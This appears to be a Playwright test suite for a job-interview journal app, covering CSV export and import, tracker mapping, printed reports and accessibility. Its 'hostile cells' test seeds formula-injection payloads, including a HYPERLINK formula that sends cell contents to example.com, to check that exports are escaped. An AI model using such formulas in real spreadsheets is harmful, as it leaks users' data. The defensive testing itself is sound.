/**
 * The journal's spreadsheet side in a real browser: its CSV export, deleted and imported back, gives the
 * same journal; a hand-kept tracker (one row per application, its own words) imports whole on a fresh
 * journal, with the person's choice for a word, and the list, its count and the patterns show it at once,
 * without a reload; a log of activities (BOM, quoted commas, US dates, an empty row, a bad date) imports
 * with the right dates, keeps what it cannot place in the notes and never doubles on a second import; the
 * activity report prints on A4 and Letter; all of it keyboard-only and axe clean in both themes.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import { expect, test, type Locator, type Page } from '@playwright/test';
import { localToday } from '../../src/lib/core/dates';
import {
  EMPTY_INTERVIEWS,
  INTERVIEWS,
  newInterview,
  type InterviewRecord,
  type InterviewsState,
} from '../../src/lib/interviews/interviews';
import { exportCsv, importCsv, mergeCsv, proposeMapping, readCsv } from '../../src/lib/journal/csv';
import { encodeValue } from '../../src/lib/storage/storage-codec';
import { pdfPages } from './helpers/pdf-text';

const TAGS = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22a', 'wcag22aa'];
const KEY = 'callback:interviews';
const FIXTURE = join(import.meta.dirname, 'fixtures/journal-spreadsheet.csv');
/** The tracker of issue 28: Company, Position, Source, Interview Date, Round, Status, Last Contact, Notes. */
const TRACKER = join(import.meta.dirname, '../fixtures/tracker-sheet.csv');
const today = localToday();
const now = new Date();

const record = (id: string, fields: Partial<InterviewRecord>): InterviewRecord => ({ ...newInterview(id, now), ...fields });
/** Four interviews, one with nothing dated, with notes and names a CSV must quote; all in the past. */
const RECORDS = [
  record('acme', {
    company: 'Acme, Inc.',
    role: 'Product designer',
    source: 'referral',
    notes: 'Met Ana at the design meetup; Status: On hold',
    answers: { interviewDate: '2026-03-14' },
    rounds: [
      { id: 'a1', date: '2026-03-10', kind: 'screen', interviewers: ['Ana Ruiz'] },
      { id: 'a2', date: '2026-03-14', kind: 'hiring-manager', interviewers: ['Bo Li', 'Dr. "X"'] },
    ],
    events: [
      { kind: 'thank-you-sent', date: '2026-03-15', note: 'Email, same day' },
      { kind: 'follow-up-sent', date: '2026-03-25' },
      { kind: 'next-round', date: '2026-03-28' },
    ],
  }),
  record('globex', {
    company: 'Globex',
    role: 'Data analyst',
    source: 'applied',
    answers: { interviewDate: '2026-04-02' },
    events: [{ kind: 'rejected', date: '2026-04-20', note: 'Not this time' }],
  }),
  record('initech', {
    company: 'Initech',
    role: '=Engineer',
    source: 'agency-recruiter',
    rounds: [{ id: 'i1', date: '2025-11-03', kind: 'technical', interviewers: [] }],
    events: [{ kind: 'ghosted', date: '2025-12-20' }],
  }),
  record('quiet', { company: 'Quiet Co', role: 'Writer' }),
];
/** The interviews as the journal keeps them: the plan's answers in step with their events. */
function kept(records: InterviewRecord[]): InterviewsState {
  const { headers, rows } = readCsv(exportCsv(records, today));
  return mergeCsv(EMPTY_INTERVIEWS, importCsv(rows, proposeMapping(headers), today).interviews, now);
}
const JOURNAL = kept(RECORDS);

async function seed(page: Page, state: InterviewsState) {
  await page.goto('/data/');
  await page.evaluate(
    ([key, text]) => (localStorage.clear(), localStorage.setItem(key, text)),
    [KEY, encodeValue(INTERVIEWS.schema, state)],
  );
}
/** Opens a page whose tool goes live at load (something is saved), once it takes input. */
async function open(page: Page, path: string) {
  await page.goto(path);
  await expect(page.locator('astro-island[ssr]')).toHaveCount(0);
  await expect(page.locator('astro-island[inert]')).toHaveCount(0);
}
const stored = (page: Page) =>
  page.evaluate((key) => (JSON.parse(localStorage.getItem(key) ?? '{"data":{"interviews":[]}}').data as InterviewsState).interviews, KEY);
/** What a CSV carries of an interview: everything but round ids (made anew) and when it was saved. */
const journal = (records: InterviewRecord[]) =>
  records.map(({ createdAt: _, updatedAt: __, ...r }) => ({ ...r, rounds: r.rounds.map(({ id: ___, ...round }) => round) }));

/** Moves focus with Tab alone until `target` has it. */
async function tabTo(page: Page, target: Locator) {
  for (let i = 0; i < 30; i++) {
    if (await target.evaluate((el) => el === document.activeElement)) return;
    await page.keyboard.press('Tab');
  }
  throw new Error('Tab never reached the control');
}

const chooseCsv = (page: Page, name: string, buffer: Buffer) =>
  page.getByLabel('Choose a CSV file').setInputFiles({ name, mimeType: 'text/csv', buffer });

test('export, delete everything, import the export: the same journal', async ({ page }) => {
  await seed(page, JOURNAL);
  await open(page, '/journal/');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download the journal as CSV' }).click(),
  ]);
  expect(download.suggestedFilename()).toBe(`callback-journal-${today}.csv`);
  await expect(page.getByText(`Downloaded 4 interviews: callback-journal-${today}.csv is in your downloads.`)).toBeVisible();
  const exported = await readFile((await download.path())!);

  await page.goto('/data/');
  await page.getByRole('button', { name: 'Delete everything' }).click();
  await page.getByRole('button', { name: 'Yes, delete it all' }).click();
  await expect(page.getByText('No saved interviews')).toBeVisible();
  expect(await stored(page)).toEqual([]);

  await page.goto('/journal/');
  await chooseCsv(page, download.suggestedFilename(), exported);
  await expect(page.getByRole('heading', { name: 'Check before importing' })).toBeFocused();
  await expect(page.getByText('4 interviews to add, 0 to update')).toBeVisible();
  await expect(page.getByText('9 activities to add, 0 to update')).toBeVisible();
  await expect(page.getByText(/can't be read/)).toHaveCount(0);
  await tabTo(page, page.getByRole('button', { name: 'Import' }));
  await page.keyboard.press('Enter');
  await expect(page.getByText('Imported: 4 interviews added, 0 updated; 9 activities added, 0 updated.', { exact: true })).toBeFocused();
  expect(journal(await stored(page))).toEqual(journal(JOURNAL.interviews));
});

test('a hand-kept tracker imports whole on a fresh journal, and the list shows it at once', async ({ page }) => {
  // The tracker's last interview is ahead of this day: it comes in as upcoming.
  await page.clock.setFixedTime(new Date('2026-04-01T10:00:00'));
  await page.goto('/journal/');
  await expect(page.getByText(/^No interviews yet/)).toBeVisible();
  await chooseCsv(page, 'tracker.csv', await readFile(TRACKER));
  const preview = page.getByRole('group', { name: 'Check before importing' });
  await expect(preview.getByRole('heading')).toBeFocused();
  await expect(preview.getByRole('combobox', { name: 'Interview date' })).toHaveValue('3');
  await expect(preview.getByRole('combobox', { name: 'Kind of round' })).toHaveValue('4');
  await expect(preview.getByRole('combobox', { name: 'Where it stands' })).toHaveValue('5');
  await expect(preview.getByRole('checkbox', { name: 'Dates are day first (14/03/2026)' })).not.toBeChecked();
  await expect(preview.getByText('4 interviews to add, 0 to update')).toBeVisible();
  await expect(preview.getByText("Row 3: 'Recruiter' kept in the notes; how it came left unknown")).toBeVisible();
  await expect(preview.getByText("Row 6: 'Waiting' kept in the notes; still open")).toBeVisible();
  await expect(preview.getByText('Row 5, Interview Date: Mar 20, 2026 → Friday, March 20, 2026')).toBeVisible();
  await expect(preview.getByText(/can't be read/)).toHaveCount(0);

  // "Recruiter" is asked about, not guessed: the person says which, by keyboard.
  const recruiter = preview.getByRole('combobox', { name: '“Recruiter”' });
  await expect(recruiter).toHaveAccessibleDescription('Recruiter: agency or in-house?');
  await tabTo(page, recruiter);
  await recruiter.selectOption({ label: 'Agency recruiter' });
  await expect(preview.getByText("Row 3: 'Recruiter' kept in the notes; how it came left unknown")).toHaveCount(0);
  await tabTo(page, preview.getByRole('button', { name: 'Import' }));
  await page.keyboard.press('Enter');
  await expect(page.getByText('Imported: 4 interviews added, 0 updated; 7 activities added, 0 updated.', { exact: true })).toBeFocused();

  // The list, its count and the patterns, on the same page, with no reload.
  await expect(page.getByRole('heading', { name: /^Interviews\s\(4\)$/ })).toBeVisible();
  await expect(page.getByText(/^No interviews yet/)).toHaveCount(0);
  await expect(page.getByText('Wednesday, April 15 · in 14 days')).toBeVisible();
  await expect(page.getByText('No interview date yet')).toHaveCount(0);
  await expect(page.getByRole('heading', { name: 'How far they went' })).toBeVisible();

  const saved = await stored(page);
  expect(saved.map((r) => [r.company, r.source, r.notes])).toEqual([
    ['Acme', 'referral', 'Nice team, slow process'],
    ['Globex', 'agency-recruiter', 'Status: Waiting'],
    ['Initech', 'applied', 'Take-home next'],
    ['Umbrella', 'applied', 'Status: Waiting'],
  ]);
  expect(saved[0]).toMatchObject({ answers: { interviewDate: '2026-03-02' }, events: [{ kind: 'rejected', date: '2026-03-09' }] });
  expect(saved[1]).toMatchObject({ answers: { interviewDate: '2026-03-14' }, rounds: [{ date: '2026-03-14', kind: 'panel' }] });
  expect(saved[3]).toMatchObject({ answers: { interviewDate: '2026-04-15' }, rounds: [{ date: '2026-04-15', kind: 'hiring-manager' }] });

  // The same file again: nothing new, no Import.
  await chooseCsv(page, 'tracker.csv', await readFile(TRACKER));
  await page.getByRole('combobox', { name: '“Recruiter”' }).selectOption({ label: 'Agency recruiter' });
  await expect(page.getByText(/Everything in this file is already in your journal/)).toBeVisible();
  await expect(page.getByRole('button', { name: 'Import' })).toHaveCount(0);
  expect(await stored(page)).toEqual(saved);
});

test('a log of activities imports with its dates, keeps the bad date in the notes, and a second import doubles nothing', async ({
  page,
}) => {
  const sheet = await readFile(FIXTURE);
  await page.goto('/journal/');
  await chooseCsv(page, 'tracker.csv', sheet);
  const preview = page.getByRole('group', { name: 'Check before importing' });
  await expect(preview.getByRole('heading')).toBeFocused();
  await expect(preview.getByRole('combobox', { name: 'Role' })).toHaveValue('1');
  await expect(preview.getByRole('combobox', { name: 'Where it stands' })).toHaveValue('3');
  await expect(preview.getByRole('combobox', { name: 'Interview ID' })).toHaveValue('');
  // 04/20/2026 can only be month first: day first is not proposed for 14/3/2026 alone.
  await expect(preview.getByRole('checkbox', { name: 'Dates are day first (14/03/2026)' })).not.toBeChecked();
  await expect(preview.getByText('3 interviews to add, 0 to update')).toBeVisible();
  await expect(preview.getByText('4 activities to add, 0 to update')).toBeVisible();
  await expect(preview.getByText("Row 7: '14/3/2026' in Date is not a date: kept in the notes")).toBeVisible();
  await expect(preview.getByText(/can't be read/)).toHaveCount(0);
  await tabTo(page, preview.getByRole('button', { name: 'Import' }));
  await page.keyboard.press('Enter');
  await expect(page.getByText('Imported: 3 interviews added, 0 updated; 4 activities added, 0 updated.', { exact: true })).toBeFocused();

  const once = await stored(page);
  expect(once.map((r) => [r.company, r.role])).toEqual([
    ['Acme, Inc.', 'Product designer'],
    ['Globex', 'Data analyst'],
    ['Initech', 'Engineer'],
  ]);
  expect(once[0]).toMatchObject({
    answers: { interviewDate: '2026-03-14', thankYou: 'sent' },
    rounds: [{ date: '2026-03-14', kind: 'screen' }],
    events: [{ kind: 'thank-you-sent', date: '2026-03-16' }],
    notes: 'Ana Ruiz; Bo Li; Sent by email, same day',
  });
  expect(once[1]).toMatchObject({ answers: { interviewDate: '2026-04-02' }, events: [{ kind: 'rejected', date: '2026-04-20' }] });
  expect(once[2]).toMatchObject({ events: [], notes: 'Date: 14/3/2026; Stage: Reply' });

  await chooseCsv(page, 'tracker.csv', sheet);
  await expect(page.getByText(/Everything in this file is already in your journal/)).toBeVisible();
  await expect(page.getByRole('button', { name: 'Import' })).toHaveCount(0);
  await tabTo(page, page.getByRole('button', { name: 'Cancel' }));
  await page.keyboard.press('Enter');
  await expect(page.getByLabel('Choose a CSV file')).toBeFocused();
  expect(await stored(page)).toEqual(once);
});

test('a file that is not a CSV changes nothing and says why', async ({ page }) => {
  await seed(page, JOURNAL);
  await open(page, '/journal/');
  await chooseCsv(page, 'tracker.xlsx', Buffer.from('PK\u0003\u0004[Content_Types].xml'));
  await expect(page.getByRole('status').filter({ hasText: 'Nothing was imported' })).toContainText('This is not a CSV file');
  await expect(page.getByRole('heading', { name: 'Check before importing' })).toHaveCount(0);
  expect(await stored(page)).toEqual(JOURNAL.interviews);
});

test('hostile cells: a formula with a line break downloads marked, and every text comes back as typed', async ({ page }) => {
  const company = '=HYPERLINK("http://example.com/?"&A2,\n"click")';
  const hostile = kept([record('h', { company, role: "'=literal", notes: '@SUM(1)\r\n-2', answers: { interviewDate: '2026-03-02' } })]);
  await seed(page, hostile);
  await open(page, '/journal/');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download the journal as CSV' }).click(),
  ]);
  const exported = await readFile((await download.path())!);
  // As a spreadsheet splits it: no cell starts with a character that would make it a formula.
  const cells = readCsv(exported.toString('utf8')).rows.flat();
  for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
  expect(cells).toContain(`'${company}`);

  await page.evaluate(() => localStorage.clear());
  await page.reload();
  await chooseCsv(page, 'journal.csv', exported);
  await expect(page.getByText('1 interview to add, 0 to update')).toBeVisible();
  await page.getByRole('button', { name: 'Import' }).click();
  await expect(page.getByText(/^Imported: 1 interview added/)).toBeFocused();
  expect(await stored(page)).toMatchObject([{ company, role: "'=literal", notes: '@SUM(1)\r\n-2' }]);
});

test('a tracker saved as Unicode Text (UTF-16, tab-separated) imports like its CSV', async ({ page }) => {
  await page.clock.setFixedTime(new Date('2026-04-01T10:00:00'));
  await page.goto('/journal/');
  const tabbed = (await readFile(TRACKER, 'utf8'))
    .split('\n')
    .map((line) => readCsv(line).headers.join('\t'))
    .join('\r\n');
  await chooseCsv(page, 'tracker.txt', Buffer.from(`\uFEFF${tabbed}`, 'utf16le'));
  const preview = page.getByRole('group', { name: 'Check before importing' });
  await expect(preview.getByRole('combobox', { name: 'Interview date' })).toHaveValue('3');
  await expect(preview.getByText('4 interviews to add, 0 to update')).toBeVisible();
});

test('a sheet of 10,000 rows previews, re-maps a column, reads with a progress line, and reading a huge one can be stopped', async ({
  page,
}) => {
  test.slow();
  await page.goto('/journal/');
  const rows = Array.from(
    { length: 10_000 },
    (_, i) => `Company ${i % 400},Role ${i % 3},Referral,3/${(i % 28) + 1}/2026,Phone screen,Rejected,,Note ${i}`,
  );
  await chooseCsv(
    page,
    'big.csv',
    Buffer.from(['Company,Position,Source,Interview Date,Round,Status,Last Contact,Notes', ...rows].join('\r\n')),
  );
  const preview = page.getByRole('group', { name: 'Check before importing' });
  await expect(preview.getByText('big.csv: 10000 rows under its header.')).toBeVisible();
  await expect(preview.getByText('1200 interviews to add, 0 to update')).toBeVisible();
  await expect(preview.getByText(/keeps at most 500/)).toBeVisible();
  // Role left out: one interview per company, within the limit, and Import is offered.
  await preview.getByRole('combobox', { name: 'Role' }).selectOption({ label: 'Not in this file' });
  await expect(preview.getByText('400 interviews to add, 0 to update')).toBeVisible();
  await expect(preview.getByRole('button', { name: 'Import' })).toBeVisible();
  await preview.getByRole('button', { name: 'Cancel' }).click();

  // Close to the 5 MB limit, on a slow phone's CPU (20x): long enough to read that the page says how far, and Stop
  // reading stops it.
  const note = `"${'a long note, with a comma, '.repeat(9)}"`;
  const huge = `Company,Role,Notes\r\n${`Acme,Designer,${note}\r\n`.repeat(19_000)}`;
  expect(huge.length).toBeLessThan(5 * 1024 * 1024);
  const cdp = await page.context().newCDPSession(page);
  await cdp.send('Emulation.setCPUThrottlingRate', { rate: 20 });
  await chooseCsv(page, 'huge.csv', Buffer.from(huge));
  await expect(page.getByText(/^Reading huge\.csv: \d+%$/)).toBeVisible();
  await page.getByRole('button', { name: 'Stop reading' }).click();
  await cdp.send('Emulation.setCPUThrottlingRate', { rate: 1 });
  await expect(page.getByText('Reading the file was canceled: nothing changed.')).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Check before importing' })).toHaveCount(0);
  expect(await stored(page)).toEqual([]);
});

test('a sheet of 500 columns is refused, naming the limit', async ({ page }) => {
  await page.goto('/journal/');
  const wide = Array.from({ length: 500 }, (_, i) => `Column ${i}`).join(',');
  await chooseCsv(page, 'wide.csv', Buffer.from(`${wide}\r\n${wide}`));
  await expect(page.getByRole('status').filter({ hasText: 'Nothing was imported' })).toContainText(
    'A spreadsheet with more than 200 columns is far larger than any journal.',
  );
  await expect(page.getByRole('heading', { name: 'Check before importing' })).toHaveCount(0);
});

test('the activity report prints every activity in its dates, with a line for the name, on A4 and Letter', async ({ page }) => {
  await seed(page, JOURNAL);
  await open(page, '/journal/report/');
  await expect(page.getByRole('table', { name: '9 activities' })).toBeVisible();
  await page.getByLabel('From').fill('2026-01-01');
  await page.getByLabel('To').fill('2026-12-31');
  await expect(page.getByRole('table', { name: '7 activities' })).toBeVisible();

  await page.emulateMedia({ media: 'print' });
  for (const hidden of ['.site-header', '.site-footer', 'nav', 'button', 'input']) await expect(page.locator(hidden).first()).toBeHidden();
  await expect(page.getByText(/^Name:/)).toBeVisible();
  const squash = (text: string) => text.replace(/\s+/g, '');
  for (const format of ['A4', 'Letter'] as const) {
    const text = squash((await pdfPages(await page.pdf({ format }))).join(''));
    for (const words of [
      'Activity report',
      'Name:',
      'Acme, Inc.',
      'Screen round: Ana Ruiz',
      'Thank-you sent: Email, same day',
      'Globex',
      'Rejected',
    ])
      expect(text, `${format}: ${words}`).toContain(squash(words));
    expect(text, `${format}: out of the dates`).not.toContain('Initech');
    expect(text, `${format}: no controls`).not.toContain(squash('Dates to include'));
  }
});

test('a long report runs onto more pages, every activity on paper and the column headings on each page', async ({ page }) => {
  const many = Array.from({ length: 40 }, (_, i) =>
    record(`n${i}`, {
      company: `Company ${i}`,
      role: 'Analyst',
      answers: { interviewDate: '2026-02-02' },
      events: [
        { kind: 'thank-you-sent', date: '2026-02-03' },
        { kind: 'follow-up-sent', date: '2026-02-10' },
        { kind: 'rejected', date: '2026-02-20' },
      ],
    }),
  );
  await seed(page, kept(many));
  await open(page, '/journal/report/');
  await expect(page.getByRole('table', { name: '160 activities' })).toBeVisible();
  await page.emulateMedia({ media: 'print' });
  for (const format of ['A4', 'Letter'] as const) {
    const pages = await pdfPages(await page.pdf({ format }));
    expect(pages.length, format).toBeGreaterThan(1);
    for (const text of pages) expect(text, `${format}: headings on each page`).toMatch(/Date\s*Company\s*Role\s*Activity/);
    const all = pages.join('');
    for (let i = 0; i < 40; i++) expect(all.match(new RegExp(`Company ${i}(?!\\d)`, 'g')), `${format}: Company ${i}`).toHaveLength(4);
  }
});

for (const scheme of ['light', 'dark'] as const) {
  test.describe(`${scheme} theme`, () => {
    test.use({ colorScheme: scheme });
    test('axe finds nothing on the import preview and the report', async ({ page }) => {
      // Two full-page scans, the first over a preview with a select per column and per value: about 25 s
      // here before the tracker's selects, past the default 30 s on a busy machine.
      test.slow();
      await seed(page, JOURNAL);
      await open(page, '/journal/');
      await chooseCsv(page, 'tracker.csv', await readFile(TRACKER));
      await expect(page.getByRole('heading', { name: 'Check before importing' })).toBeFocused();
      const ids = (r: Awaited<ReturnType<AxeBuilder['analyze']>>) =>
        r.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
      expect(ids(await new AxeBuilder({ page }).withTags(TAGS).analyze())).toEqual([]);
      await open(page, '/journal/report/');
      await expect(page.getByRole('table')).toBeVisible();
      expect(ids(await new AxeBuilder({ page }).withTags(TAGS).analyze())).toEqual([]);
    });
  });
}
